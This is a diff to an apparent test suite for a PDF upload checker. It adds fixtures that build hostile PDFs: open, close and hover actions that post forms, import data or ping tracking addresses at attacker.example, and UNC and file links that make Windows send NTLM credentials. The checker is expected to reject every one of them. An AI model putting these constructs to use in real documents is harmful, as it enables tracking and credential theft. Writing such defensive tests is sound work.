@@ -191,6 +191,93 @@ def uri_link_and_destination() -> bytes:
     })
 
 
+# Actions that reach out. ``UNC``: a PDF literal string holding the share path \\attacker.example\share\x.pdf.
+UNC = b"(\\\\\\\\attacker.example\\\\share\\\\x.pdf)"
+
+
+@cache
+def submit_form_open_action() -> bytes:
+    """Posts the form (and the reader's address) to a server as soon as the file opens."""
+    return _one_page(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/c) >> /Flags 4 >> ")
+
+
+@cache
+def import_data_page_open() -> bytes:
+    return _one_page(page_extra=b"/AA << /O << /S /ImportData /F (https://attacker.example/d.fdf) >> >> ")
+
+
+@cache
+def uri_open_action() -> bytes:
+    """Opens a tracking address by itself (web bug: tells the sender who opened the letter, and when)."""
+    return _one_page(b"/OpenAction << /S /URI /URI (https://attacker.example/opened?id=1) >> ")
+
+
+@cache
+def uri_after_goto_open_action() -> bytes:
+    """A harmless-looking open action whose ``/Next`` opens an address."""
+    return _one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://attacker.example/n) >>] >> ")
+
+
+@cache
+def uri_document_close_action() -> bytes:
+    return _one_page(b"/AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >> ")
+
+
+@cache
+def uri_on_link_hover() -> bytes:
+    """A link whose additional action (mouse enters, ``/AA /E``) opens an address without a click."""
+    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
+        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://www.mrasla.ma) >> "
+            b"/AA << /E << /S /URI /URI (https://attacker.example/hover) >> >> >>",
+    })
+
+
+@cache
+def uri_shared_by_link_and_open_action() -> bytes:
+    """One action object, both a link's (allowed) and the open action (not): seen once as each."""
+    return _one_page(b"/OpenAction 10 0 R ", page_extra=b"/Annots [11 0 R] ", extra={
+        10: b"<< /S /URI /URI (https://attacker.example/opened) >>",
+        11: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 10 0 R >>",
+    })
+
+
+@cache
+def goto_remote_unc_link() -> bytes:
+    """A link into a PDF on a network share: Windows sends the clerk's NTLM credentials to the host."""
+    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
+        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
+    })
+
+
+@cache
+def goto_embedded_open_action() -> bytes:
+    return _one_page(b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (x.pdf) >> >> ")
+
+
+@cache
+def unc_uri_link() -> bytes:
+    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
+        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI " + UNC + b" >> >>",
+    })
+
+
+@cache
+def file_uri_link() -> bytes:
+    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
+        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (file://attacker.example/s/x) >> >>",
+    })
+
+
+@cache
+def mailto_link_and_bookmark() -> bytes:
+    """Ordinary links a letter may carry: a mailto link and a bookmark to a web page."""
+    return _one_page(b"/Outlines 11 0 R ", page_extra=b"/Annots [10 0 R] ", extra={
+        10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (mailto:bo@mef.gov.ma) >> >>",
+        11: b"<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
+        12: b"<< /Title (Site) /Parent 11 0 R /A << /S /URI /URI (https://www.mrasla.ma) >> >>",
+    })
+
+
 @cache
 def thousands_of_pages(count: int = 5000) -> bytes:
     kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(count))
@@ -389,6 +476,20 @@ CASES: tuple[Case, ...] = (
     _refused("launch-action", "lettre.pdf", launch_action_link, "error.pdf_active_content"),
     _refused("embedded-file", "lettre.pdf", embedded_file, "error.pdf_active_content"),
     Case("link-and-destination", "lettre.pdf", uri_link_and_destination, stored="lettre.pdf"),
+    # reaching out: form submission, data import, remote files and shares, addresses opened by themselves
+    _refused("submitform-open-action", "lettre.pdf", submit_form_open_action, "error.pdf_active_content"),
+    _refused("importdata-page-open", "lettre.pdf", import_data_page_open, "error.pdf_active_content"),
+    _refused("uri-open-action", "lettre.pdf", uri_open_action, "error.pdf_active_content"),
+    _refused("uri-next-of-open-action", "lettre.pdf", uri_after_goto_open_action, "error.pdf_active_content"),
+    _refused("uri-document-close", "lettre.pdf", uri_document_close_action, "error.pdf_active_content"),
+    _refused("uri-link-hover", "lettre.pdf", uri_on_link_hover, "error.pdf_active_content"),
+    _refused("uri-shared-link-open-action", "lettre.pdf", uri_shared_by_link_and_open_action,
+             "error.pdf_active_content"),
+    _refused("gotor-unc-link", "lettre.pdf", goto_remote_unc_link, "error.pdf_active_content"),
+    _refused("gotoe-open-action", "lettre.pdf", goto_embedded_open_action, "error.pdf_active_content"),
+    _refused("unc-uri-link", "lettre.pdf", unc_uri_link, "error.pdf_active_content"),
+    _refused("file-uri-link", "lettre.pdf", file_uri_link, "error.pdf_active_content"),
+    Case("mailto-link-and-bookmark", "lettre.pdf", mailto_link_and_bookmark, stored="lettre.pdf"),
     # sizes
     _refused("5000-pages", "lettre.pdf", thousands_of_pages, "error.too_many_pages"),
     _refused("page-count-lie", "lettre.pdf", page_count_lie, "error.pdf_too_complex"),
